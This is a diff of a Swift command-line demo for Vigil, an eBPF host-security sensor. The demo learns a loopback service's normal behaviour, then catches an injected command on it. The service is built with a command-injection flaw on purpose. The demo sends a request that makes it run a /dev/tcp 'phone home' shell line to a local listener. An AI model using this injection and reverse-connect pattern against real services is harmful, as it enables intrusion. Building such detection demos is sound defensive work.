@@ -5,60 +5,172 @@ import VigilSensor
 
 struct Demo: ParsableCommand {
     static let configuration = CommandConfiguration(
-        abstract: "Show Vigil at work on a built-in workload (needs root).",
+        abstract: "See Vigil learn a service, then catch and stop an attack on it (needs root).",
         discussion: """
-        Starts the sensor, runs a small built-in TCP service and a client against it, \
-        and shows what the kernel reported about them: the programs started, the \
-        listening port, the connection, each with its process. Nothing on the host is changed.
+        1. Starts a small built-in TCP service (`vigil demo-service`, with a command-injection \
+        flaw) on a loopback port, and learns it with `vigil learn` while clients make normal \
+        requests.
+        2. Switches to `vigil enforce` with the learned baseline. Normal requests go on, \
+        and produce no finding.
+        3. Attacks: a request makes the service spawn a shell that phones home \
+        (`bash -c 'echo x >/dev/tcp/127.0.0.1/PORT'`). Vigil explains the deviation, the \
+        risk score climbs the ladder, the action is taken, and the connection never arrives.
+
+        Everything stays on this machine (loopback only) and in a temporary directory; \
+        the findings are kept there as OCSF JSON lines.
         """
     )
 
-    @Flag(help: "Print the events as OCSF JSON lines instead of the readable summary.")
-    var json = false
+    @Option(help: "Seconds of learning.")
+    var learnSeconds: Int = 12
 
-    func run() throws {
-        let sensor: Sensor
-        do {
-            sensor = try Sensor()
-        } catch {
-            Diagnostics.error(error.description)
-            throw ExitCode.failure
-        }
-        for note in sensor.notices { Diagnostics.warning(note) }
-        var table = ProcessTable(seed: ProcScanner.snapshot(nowNanos: Clock.nowNanos()))
-        var events: [Event] = []
-        let poll = { (ms: Int32) throws in _ = try sensor.poll(timeoutMillis: ms) { e in table.apply(e); events.append(e) } }
+    @Option(help: ArgumentHelp("Keep the models and findings here instead of a temporary directory.", valueName: "DIR"))
+    var keep: String?
 
-        say("Vigil demo: the sensor is attached (\(sensor.attachedHooks.count) probes). Running a built-in workload...")
-        let workload = try DemoWorkload.start()
-        defer { workload.stop() }
-        try workload.request("GET hostname")
-        try workload.request("GET os-release")
-        let echo = try DemoWorkload.spawn("/bin/echo", ["vigil-demo-marker"])
-        echo.waitUntilExit()
-        let deadline = Date().addingTimeInterval(1.0)
-        while Date() < deadline { try poll(50) }
-        try sensor.drain { e in table.apply(e); events.append(e) }
-
-        let mine = Set(workload.pids + [echo.processIdentifier])
-        let relevant = events.filter { mine.contains($0.pid) || isChild(of: mine, $0, table) }
-        let formatter = EventFormatter(format: json ? .json : .text)
-        say("")
-        say("What the kernel reported about the workload (\(relevant.count) of \(events.count) events on this host):")
-        for e in relevant where e.kind != .fork {
-            if let line = formatter.format(e, process: table[e.pid], table: table) { say("  " + line) }
-        }
-        let stats = sensor.stats
-        say("")
-        say("Dropped in the kernel: \(stats.totalKernelDrops). Undecodable records: \(stats.decoder.undecodable).")
-        say("Next: `vigil trace --duration 10` streams every process on this host as OCSF JSON lines.")
+    func validate() throws {
+        if learnSeconds < 6 { throw ValidationError("--learn-seconds must be at least 6") }
     }
 
-    private func isChild(of pids: Set<Int32>, _ e: Event, _ table: ProcessTable) -> Bool {
-        table.ancestry(of: e.pid, limit: 4).contains { pids.contains($0.pid) }
+    func run() throws {
+        guard geteuid() == 0 else {
+            Diagnostics.error("the demo loads eBPF programs and needs root: run it with sudo")
+            throw ExitCode.failure
+        }
+        let dir = keep ?? FileManager.default.temporaryDirectory.appendingPathComponent("vigil-demo-\(getpid())").path
+        let models = dir + "/models"
+        let findings = dir + "/findings.jsonl"
+        try? FileManager.default.removeItem(atPath: models)
+        try? FileManager.default.removeItem(atPath: findings)
+        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
+        let self_ = URL(fileURLWithPath: "/proc/self/exe").resolvingSymlinksInPath().path
+
+        say("""
+        \u{1B}[1mVigil demo\u{1B}[0m
+        A small TCP service runs on 127.0.0.1. Vigil first learns how it behaves, then
+        enforces that baseline while the service is attacked.
+
+        \u{1B}[1m1. Learning\u{1B}[0m (\(learnSeconds) s): the service answers normal requests (`GET hostname`).
+        """)
+        let learnThread = CommandThread(["learn", "--models", models, "--duration", String(learnSeconds),
+                                         "--only", self_, "--only", "/bin/bash", "--only", "/usr/bin/bash", "--only", "/usr/bin/head",
+                                         "--bucket", "2", "--window", "2", "--min-observed", "4", "--save-interval", "4"])
+        Thread.sleep(forTimeInterval: 1.5)
+        let service = try DemoWorkload.start(vulnerable: true)
+        defer { service.stop() }
+        let learnEnd = Date().addingTimeInterval(Double(learnSeconds) - 3)
+        var requests = 0
+        while Date() < learnEnd {
+            try service.request("GET hostname")
+            requests += 1
+            Thread.sleep(forTimeInterval: 0.1)
+        }
+        learnThread.wait()
+        let id = ProfileIdentity.resolve(path: self_, argv: [self_, "demo-service"]).id
+        let store = ProfileStore(directory: models)
+        if let p = try? store.load(file: store.path(for: id)) {
+            let r = p.stability()
+            say("   learned \(p.syscalls.count) syscalls, \(p.ngrams.count) syscall sequences, listening port(s) "
+                + p.listens.keys.map { String($0.port) }.joined(separator: ", ") + " from \(requests) requests; profile is \(r.state.rawValue)")
+        } else {
+            say("   (the service's profile was not saved; see the messages above)")
+        }
+
+        // The attacker's listener: if the shell phones home, a connection arrives here.
+        let phoneHome = try LoopbackCounter()
+        say("""
+
+        \u{1B}[1m2. Enforcing\u{1B}[0m the baseline. Normal requests first:
+        """)
+        let enforceThread = CommandThread(["enforce", "--models", models, "--duration", "12", "--explain",
+                                           "--output", "file:" + findings])
+        Thread.sleep(forTimeInterval: 2)
+        for _ in 0..<3 { try service.request("GET hostname") }
+        Thread.sleep(forTimeInterval: 1.5)
+        let normalFindings = Self.findings(in: findings, pid: service.service.processIdentifier)
+        say("   3 normal requests served: \(normalFindings == 0 ? "no finding" : "\(normalFindings) finding(s)") for the service.")
+        say("""
+
+        \u{1B}[1m3. Attack\u{1B}[0m: a request makes the service run
+           bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'   (a shell phoning home)
+        """)
+        try service.request("RUN bash -c 'echo x >/dev/tcp/127.0.0.1/\(phoneHome.port)'")
+        enforceThread.wait()
+        Thread.sleep(forTimeInterval: 0.2)
+        let arrived = phoneHome.connections
+        say("""
+
+        \u{1B}[1mResult\u{1B}[0m: the attacker's listener received \(arrived) connection(s)\(arrived == 0 ? ": the shell never ran." : ".")
+           The service is \(service.service.isRunning ? "still running" : "gone (killed by Vigil)").
+           Findings as OCSF Detection Finding (class_uid 2004) JSON lines: \(findings)
+           Baseline: \(models)/\(id).json   (vigil profile show \(id) --models \(models))
+        """)
+    }
+
+    static func findings(in file: String, pid: Int32) -> Int {
+        guard let text = try? String(contentsOfFile: file, encoding: .utf8) else { return 0 }
+        return text.split(separator: "\n").filter { $0.contains("\"class_uid\":2004") && $0.contains("\"pid\":\(pid),") }.count
     }
 
     private func say(_ s: String) { Console.line(s) }
+}
+
+/// Runs a vigil subcommand in this process, on its own thread (the demo drives the
+/// workload meanwhile). Errors are reported as the command would report them.
+final class CommandThread: @unchecked Sendable {
+    private let done = DispatchSemaphore(value: 0)
+
+    init(_ arguments: [String]) {
+        let t = Thread { [done] in
+            do {
+                var command = try Vigil.parseAsRoot(arguments)
+                try command.run()
+            } catch {
+                Diagnostics.error("vigil \(arguments.first ?? ""): \(Vigil.fullMessage(for: error))")
+            }
+            done.signal()
+        }
+        t.start()
+    }
+
+    func wait() { done.wait() }
+}
+
+/// A loopback TCP listener that counts the connections it accepts.
+final class LoopbackCounter: @unchecked Sendable {
+    let fd: Int32
+    let port: UInt16
+    private let lock = NSLock()
+    private var count = 0
+
+    init() throws {
+        let sock = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        var addr = sockaddr_in()
+        addr.sin_family = sa_family_t(AF_INET)
+        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
+        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
+        let ok = withUnsafeMutablePointer(to: &addr) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+                bind(sock, $0, len) == 0 && listen(sock, 16) == 0 && getsockname(sock, $0, &len) == 0
+            }
+        }
+        guard ok else { throw ServiceError("cannot listen on 127.0.0.1") }
+        fd = sock
+        port = UInt16(bigEndian: addr.sin_port)
+        Thread.detachNewThread { [self] in
+            while true {
+                let c = accept(sock, nil, nil)
+                if c < 0 { return }
+                lock.lock(); count += 1; lock.unlock()
+                close(c)
+            }
+        }
+    }
+
+    var connections: Int {
+        lock.lock()
+        defer { lock.unlock() }
+        return count
+    }
 }
 
 /// The demo's workload: `vigil demo-service` on a loopback port, and clients that talk to
@@ -67,12 +179,10 @@ struct Demo: ParsableCommand {
 final class DemoWorkload {
     let service: Process
     let port: UInt16
-    private(set) var pids: [Int32]
 
     private init(service: Process, port: UInt16) {
         self.service = service
         self.port = port
-        pids = [service.processIdentifier]
     }
 
     static func start(vulnerable: Bool = false) throws -> DemoWorkload {
@@ -101,7 +211,6 @@ final class DemoWorkload {
     func request(_ line: String) throws -> Int32 {
         let client = try Self.spawn("/bin/bash", ["-c", "exec 3<>/dev/tcp/127.0.0.1/\(port); printf '%s\\n' \"$1\" >&3; head -c 200 <&3 >/dev/null", "client", line])
         client.waitUntilExit()
-        pids.append(client.processIdentifier)
         return client.terminationStatus
     }
 
